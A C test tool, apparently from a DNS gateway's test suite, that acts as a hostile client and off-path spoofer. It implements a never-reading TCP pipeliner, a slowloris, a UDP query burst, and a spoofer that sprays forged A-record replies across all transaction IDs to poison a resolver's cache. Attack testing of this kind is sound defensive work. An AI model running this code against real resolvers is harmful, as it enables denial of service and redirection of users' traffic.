/* SPDX-License-Identifier: ISC */
/* dnsattack: the hostile LAN host and the off-path spoofer of the DNS attack tests: a TCP client that
 * pipelines queries and never reads, slow TCP clients, a burst of UDP queries, and a spoofing upstream. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNS 1024

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static size_t put_name(uint8_t *p, const char *name)
{
	size_t n = 0;
	while (*name) {
		size_t l = strcspn(name, ".");
		p[n++] = (uint8_t)l;
		memcpy(p + n, name, l);
		n += l;
		name += l;
		if (*name == '.')
			name++;
	}
	p[n++] = 0;
	return n;
}

/* A query (or, with answer, a reply carrying one A record) for name. */
static size_t make_msg(uint8_t *buf, uint16_t id, const char *name, uint16_t type, const uint8_t *answer)
{
	size_t n = 12;
	memset(buf, 0, 12);
	buf[0] = (uint8_t)(id >> 8);
	buf[1] = (uint8_t)id;
	buf[2] = answer ? 0x81 : 0x01;
	buf[3] = answer ? 0x80 : 0x00;
	buf[5] = 1;
	n += put_name(buf + n, name);
	buf[n++] = (uint8_t)(type >> 8);
	buf[n++] = (uint8_t)type;
	buf[n++] = 0;
	buf[n++] = 1;
	if (answer) {
		static const uint8_t rr[] = { 0xc0, 0x0c, 0, 1, 0, 1, 0, 1, 0x51, 0x80, 0, 4 }; /* TTL 86400 */
		buf[7] = 1;
		memcpy(buf + n, rr, sizeof(rr));
		n += sizeof(rr);
		memcpy(buf + n, answer, 4);
		n += 4;
	}
	return n;
}

static void sockaddr_of(const char *addr, int port, struct sockaddr_in *sin)
{
	memset(sin, 0, sizeof(*sin));
	sin->sin_family = AF_INET;
	sin->sin_port = htons((uint16_t)port);
	if (inet_pton(AF_INET, addr, &sin->sin_addr) != 1) {
		fprintf(stderr, "dnsattack: bad address %s\n", addr);
		exit(2);
	}
}

static int tcp_connect(const char *addr, int port, const char *bind_addr, int rcvbuf)
{
	struct sockaddr_in sin;
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return -1;
	if (rcvbuf > 0)
		setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof(rcvbuf));
	if (bind_addr != NULL) {
		sockaddr_of(bind_addr, 0, &sin);
		if (bind(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
			close(fd);
			return -1;
		}
	}
	sockaddr_of(addr, port, &sin);
	if (connect(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* pipeline: queries written back to back for SECONDS, no reply ever read. */
static int pipeline(const char *addr, int port, double seconds, const char *name, const char *bind_addr)
{
	uint8_t msg[600];
	unsigned long long queries = 0, bytes = 0;
	int fd = tcp_connect(addr, port, bind_addr, 4096);
	if (fd < 0) {
		perror("dnsattack: connect");
		return 1;
	}
	fcntl(fd, F_SETFL, O_NONBLOCK);
	size_t len = make_msg(msg + 2, 1, name, 1, NULL);
	msg[0] = (uint8_t)(len >> 8);
	msg[1] = (uint8_t)len;
	double end = now() + seconds;
	while (now() < end) {
		struct pollfd p = { .fd = fd, .events = POLLOUT };
		if (poll(&p, 1, 100) <= 0)
			continue;
		if (p.revents & (POLLERR | POLLHUP))
			break;
		ssize_t n = send(fd, msg, len + 2, MSG_NOSIGNAL);
		if (n < 0 && errno != EAGAIN)
			break;
		if (n > 0) {
			bytes += (unsigned long long)n;
			queries += (unsigned long long)n == len + 2;
		}
	}
	printf("pipelined %llu queries (%llu bytes) in %.0f s\n", queries, bytes, seconds);
	close(fd);
	return 0;
}

static bool still_open(int fd)
{
	char c;
	ssize_t n = recv(fd, &c, 1, MSG_DONTWAIT | MSG_PEEK);
	return n > 0 || (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK));
}

/* slowloris: N connections, each sending one byte of a query every INTERVAL s for SECONDS. */
static int slowloris(const char *addr, int port, int n, double interval, double seconds, const char *bind_addr)
{
	static int fds[MAX_CONNS];
	uint8_t msg[600];
	size_t len = make_msg(msg + 2, 2, "slow.plain.test", 1, NULL), sent = 0;
	int made = 0, open_now = 0;
	msg[0] = (uint8_t)(len >> 8);
	msg[1] = (uint8_t)len;
	if (n > MAX_CONNS)
		n = MAX_CONNS;
	for (int i = 0; i < n; i++)
		if ((fds[i] = tcp_connect(addr, port, bind_addr, 0)) >= 0)
			made++;
	double end = now() + seconds;
	while (now() < end) {
		for (int i = 0; i < n; i++)
			if (fds[i] >= 0 && sent < len + 2 && send(fds[i], msg + sent, 1, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 &&
			    errno != EAGAIN) {
				close(fds[i]);
				fds[i] = -1;
			}
		sent++;
		usleep((useconds_t)(interval * 1e6));
	}
	for (int i = 0; i < n; i++) {
		if (fds[i] >= 0 && still_open(fds[i]))
			open_now++;
		if (fds[i] >= 0)
			close(fds[i]);
	}
	printf("slowloris: %d of %d connections made, %d still open after %.0f s\n", made, n, open_now, seconds);
	return 0;
}

/* burst: N UDP queries for distinct names q<i>.SUFFIX, at most WINDOW unanswered at once; counts the
 * replies by rcode. */
static int burst(const char *addr, int port, int n, const char *suffix, int window)
{
	struct sockaddr_in sin;
	uint8_t msg[600], reply[4096];
	char name[300];
	int fd = socket(AF_INET, SOCK_DGRAM, 0), sent = 0, answered = 0, rcodes[16] = { 0 };
	sockaddr_of(addr, port, &sin);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		perror("dnsattack: udp");
		return 1;
	}
	double end = now() + 60;
	while (answered < n && now() < end) {
		while (sent < n && sent - answered < window) {
			snprintf(name, sizeof(name), "q%d.%s", sent, suffix);
			size_t len = make_msg(msg, (uint16_t)sent, name, 1, NULL);
			send(fd, msg, len, 0);
			sent++;
		}
		struct pollfd p = { .fd = fd, .events = POLLIN };
		if (poll(&p, 1, 8000) <= 0) {
			answered = sent; /* the rest are lost: move on */
			continue;
		}
		if (recv(fd, reply, sizeof(reply), 0) >= 4) {
			rcodes[reply[3] & 0xf]++;
			answered++;
		}
	}
	printf("burst: %d queries sent, %d NOERROR, %d SERVFAIL, %d NXDOMAIN, %d REFUSED\n", sent, rcodes[0],
	       rcodes[2], rcodes[3], rcodes[5]);
	return 0;
}

/* spoof: the upstream the gateway forwards to, at ADDR:53. It answers PROBE honestly and learns the
 * gateway's source port from it, as an off-path attacker learns it from a query for a name of its
 * own. Each query for VICTIM then starts a spray of replies (every ID, A = FORGED, TTL 86400) to that
 * learned port, never to the port the query came from; it never answers VICTIM itself. */
static int spoof(const char *addr, const char *probe, const char *victim, const char *forged, double seconds)
{
	struct sockaddr_in sin, from, target;
	uint8_t msg[4096], out[600], fake[4];
	char qname[300];
	int fd = socket(AF_INET, SOCK_DGRAM, 0), victims = 0;
	unsigned long sprayed = 0;
	bool learned = false;
	sockaddr_of(addr, 53, &sin);
	if (inet_pton(AF_INET, forged, fake) != 1 || fd < 0 || bind(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		perror("dnsattack: spoof");
		return 1;
	}
	printf("spoof: listening on %s:53\n", addr);
	fflush(stdout);
	double end = now() + seconds;
	while (now() < end) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		socklen_t fl = sizeof(from);
		if (poll(&p, 1, 200) <= 0)
			continue;
		ssize_t n = recvfrom(fd, msg, sizeof(msg), 0, (struct sockaddr *)&from, &fl);
		if (n < 13)
			continue;
		size_t off = 12, q = 0;
		while (off < (size_t)n && msg[off] != 0 && q + msg[off] + 1 < sizeof(qname)) {
			if (q > 0)
				qname[q++] = '.';
			memcpy(qname + q, msg + off + 1, msg[off]);
			q += msg[off];
			off += msg[off] + 1u;
		}
		qname[q] = '\0';
		uint16_t id = (uint16_t)(msg[0] << 8 | msg[1]);
		if (strcasecmp(qname, probe) == 0) {
			target = from;
			learned = true;
			size_t len = make_msg(out, id, probe, 1, (const uint8_t[]){ 192, 0, 2, 99 });
			sendto(fd, out, len, 0, (struct sockaddr *)&from, fl);
			printf("spoof: probe from port %u\n", ntohs(from.sin_port));
			fflush(stdout);
		} else if (strcasecmp(qname, victim) == 0 && learned) {
			victims++;
			printf("spoof: victim query %d from port %u id %u; spraying port %u\n", victims,
			       ntohs(from.sin_port), id, ntohs(target.sin_port));
			fflush(stdout);
			for (uint32_t i = 0; i < 65536; i++) {
				size_t len = make_msg(out, (uint16_t)(i * 40503u), victim, 1, fake);
				if (sendto(fd, out, len, 0, (struct sockaddr *)&target, sizeof(target)) > 0)
					sprayed++;
			}
		}
	}
	printf("spoof: %d victim queries, %lu forged replies sent\n", victims, sprayed);
	return 0;
}

static void usage(void)
{
	fprintf(stderr, "usage: dnsattack pipeline ADDR PORT SECONDS NAME [BIND]\n"
			"       dnsattack slowloris ADDR PORT N INTERVAL SECONDS [BIND]\n"
			"       dnsattack burst ADDR PORT N SUFFIX WINDOW\n"
			"       dnsattack spoof ADDR PROBE VICTIM FORGED_A SECONDS\n");
	exit(2);
}

int main(int argc, char **argv)
{
	if (argc >= 6 && strcmp(argv[1], "pipeline") == 0)
		return pipeline(argv[2], atoi(argv[3]), atof(argv[4]), argv[5], argc > 6 ? argv[6] : NULL);
	if (argc >= 7 && strcmp(argv[1], "slowloris") == 0)
		return slowloris(argv[2], atoi(argv[3]), atoi(argv[4]), atof(argv[5]), atof(argv[6]),
				 argc > 7 ? argv[7] : NULL);
	if (argc == 7 && strcmp(argv[1], "burst") == 0)
		return burst(argv[2], atoi(argv[3]), atoi(argv[4]), argv[5], atoi(argv[6]));
	if (argc == 7 && strcmp(argv[1], "spoof") == 0)
		return spoof(argv[2], argv[3], argv[4], argv[5], atof(argv[6]));
	usage();
	return 2;
}
